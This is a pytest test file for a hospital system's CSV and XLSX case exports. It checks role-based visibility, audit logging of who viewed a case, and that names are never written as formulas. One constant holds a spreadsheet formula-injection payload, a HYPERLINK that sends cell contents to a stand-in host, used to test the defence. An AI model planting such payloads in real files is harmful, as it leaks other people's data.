"""Lists as spreadsheets: what is in them is what their pages show to the same person, no text of them is a formula, and whose record is taken along can see it."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.utils.escape import unescape
from starlette.testclient import TestClient

from acceptance.support import Clock, record
from baybridge.app import application
from baybridge.base.spreadsheet import FORMS, csv_text
from baybridge.cli.main import main
from baybridge.journey.command import Actor, Role
from baybridge.ledger import log
from baybridge.node.config import read_config
from baybridge.node.intake.importing import import_upload
from baybridge.node.node import Node
from baybridge.node.people import accounts, erasure
from baybridge.node.upkeep.founding import found

HERE = "Hospital"
FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"陳大文\")"
NUMBER = "0012345678901234567"


@dataclass
class House:
    node: Node
    client: TestClient
    cases: dict[str, str]
    tokens: dict[str, str]

    def get(self, who: str, path: str) -> Any:
        return self.client.get(path, headers={"authorization": f"Bearer {self.tokens[who]}"})

    def rows(self, who: str, path: str) -> list[list[str]]:
        answer = self.get(who, path)
        assert answer.status_code == 200, answer.text
        return table(answer.content)


def table(content: bytes) -> list[list[str]]:
    """The texts of a file of either form."""
    if content.startswith(b"PK"):
        page = openpyxl.load_workbook(io.BytesIO(content)).active
        assert all(cell.data_type != "f" for row in page.iter_rows() for cell in row), "a formula"
        return [[unescape(str(cell.value)) if cell.value is not None else "" for cell in row] for row in page.iter_rows()]
    return [[csv_text(cell) for cell in row] for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))]


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    folder = tmp_path / "node"
    found(folder, {"node": "hk", "organisation": HERE, "jurisdiction": "HK", "kinds": ["centre", "laboratory"]})
    node = Node(read_config(folder), now=Clock())
    cases = {}
    for who, name, born, number in (("own", FORMULA, "1966-05-03", "9000001(0)"), ("other", NUMBER, "1980-11-30", "8765432(1)")):
        made = record(who, node.now())
        made["entry"][0]["resource"] |= {"name": [{"text": name}], "birthDate": born, "identifier": [{"system": "urn:mo:bir", "value": number}]}
        imported = import_upload(node, Actor("first", Role.COORDINATOR, HERE), f"{who}.json", json.dumps(made).encode())
        cases[who] = imported.cases[who]  # type: ignore[union-attr]
    people = {
        "patient": (Role.PATIENT, HERE, "own"), "nurse": (Role.NURSE, HERE, None), "quality": (Role.QUALITY, HERE, None), "boss": (Role.ADMINISTRATOR, HERE, None),
        "stranger": (Role.NURSE, "Elsewhere", None), "payer": (Role.PAYER, "a-payer", None), "maker": (Role.MANUFACTURER, HERE, None),
        "alliance": (Role.ALLIANCE, "Alliance", None),
    }  # fmt: skip
    tokens = {}
    with node.storage.writing() as connection:
        for name, (role, organisation, patient) in people.items():
            accounts.add_account(connection, account=name, name=name, role=role, organisation=organisation, password="-", patient_id=patient)
            tokens[name] = accounts.open_session(connection, name, node.now()).token
    with TestClient(application(node, workers=False), base_url="http://127.0.0.1", follow_redirects=False) as client:
        yield House(node, client, cases, tokens)


@pytest.mark.parametrize("form", FORMS)
def test_names_that_are_formulas_or_numbers_stay_the_text_they_are(house: House, form: str) -> None:
    answer = house.get("nurse", f"/cases.{form}")
    rows = table(answer.content)
    assert {row[1] for row in rows[1:]} == {FORMULA, NUMBER}
    assert {row[0] for row in rows[1:]} == set(house.cases.values())
    assert answer.headers["content-disposition"].startswith('attachment; filename="baybridge-cases-2')
    if form == "csv":
        assert b',"=HYPERLINK' not in answer.content and f"\"'{NUMBER}\"".encode() in answer.content


@pytest.mark.parametrize("form", FORMS)
def test_a_list_holds_what_its_page_shows_to_the_same_person(house: House, form: str) -> None:
    assert [row[0] for row in house.rows("patient", f"/cases.{form}")[1:]] == [house.cases["own"]]
    assert house.rows("payer", f"/cases.{form}")[1:] == [] and len(house.rows("payer", f"/payer.{form}")) == 1
    assert house.get("stranger", f"/cases.{form}").status_code == 403
    assert not {FORMULA, NUMBER} & {row[1] for row in house.rows("maker", f"/cases.{form}")}, "a maker knows no names"
    stages = {row[-1] for row in house.rows("nurse", f"/cases.{form}")[1:]}
    assert len(house.rows("nurse", f"/cases.{form}?stage=opened")) == len(house.rows("nurse", f"/cases.{form}")) and len(stages) == 1
    assert len(house.rows("nurse", f"/cases.{form}?stage=infused")) == 1
    assert {row[0] for row in house.rows("boss", f"/accounts.{form}")[1:]} == set(house.tokens)
    assert {house.get(who, f"/accounts.{form}").status_code for who in ("nurse", "quality", "patient", "payer")} == {403}
    assert {house.get(who, f"/log/entries.{form}").status_code for who in ("patient", "payer")} == {403}
    with house.node.storage.reading() as connection:
        size = log.size(connection)
    assert [int(row[0]) for row in house.rows("boss", f"/log/entries.{form}")[1:]] == list(range(size)), "all of it, not the newest alone"
    assert [row[0] for row in house.rows("alliance", f"/indicators.{form}")[1:]] == ["Q05", "Q07", "Q10"]


@pytest.mark.parametrize("form", FORMS)
def test_whose_case_is_taken_along_sees_it(house: House, form: str) -> None:
    before = len(house.rows("patient", f"/cases/{house.cases['own']}/looked.{form}"))
    house.get("nurse", f"/cases.{form}")
    rows = house.rows("patient", f"/cases/{house.cases['own']}/looked.{form}")
    assert ("nurse", "List of cases, as a file") in {(row[2], row[4]) for row in rows[:3]}
    assert len(rows) == before + 2, "the nurse's, and the own look before"
    assert house.get("nurse", f"/cases/{house.cases['own']}/looked.{form}").status_code == 403
    assert house.get("patient", f"/cases/{house.cases['other']}/looked.{form}").status_code in (403, 404)
    with house.node.storage.reading() as connection:
        taken = [one for one in log.entries(connection, 0, log.size(connection)) if one.entry.what == "list.cases"]
    assert len(taken) == 3, "the file, and each of its two cases"
    assert not [one for one in taken if b"HYPERLINK" in one.body]


def test_the_name_of_who_asked_for_restriction_is_left_out(house: House) -> None:
    assert erasure.restrict(house.node, "own", "asked for", Actor("quality", Role.QUALITY, HERE)) is True
    assert FORMULA not in {row[1] for row in house.rows("nurse", "/cases.csv")}
    assert FORMULA in {row[1] for row in house.rows("patient", "/cases.csv")}


def test_the_command_writes_a_new_file_for_its_owner_alone_and_by_marks(house: House, tmp_path: Path) -> None:
    out, folder = tmp_path / "cases.xlsx", str(tmp_path / "node")
    done = CliRunner().invoke(main, ["spreadsheet", "cases", "--node", folder, "--out", str(out)])
    assert done.exit_code == 0, done.output
    assert {row[1] for row in table(out.read_bytes())[1:]} == {f"Case {case[-6:].upper()}" for case in house.cases.values()}
    assert out.stat().st_mode & 0o777 == 0o600
    again = CliRunner().invoke(main, ["spreadsheet", "cases", "--node", folder, "--out", str(out)])
    assert (again.exit_code, "expected a file that can be made new" in again.output) == (1, True)
    assert CliRunner().invoke(main, ["spreadsheet", "cases", "--node", folder, "--out", str(tmp_path / "cases.ods")]).exit_code == 2
    assert CliRunner().invoke(main, ["spreadsheet", "looked", "--node", folder, "--out", str(tmp_path / "l.csv")]).exit_code == 2
    done = CliRunner().invoke(main, ["spreadsheet", "looked", "--node", folder, "--case", house.cases["own"], "--out", str(tmp_path / "l.csv")])
    assert done.exit_code == 0 and table((tmp_path / "l.csv").read_bytes())[1][2] == "this node"
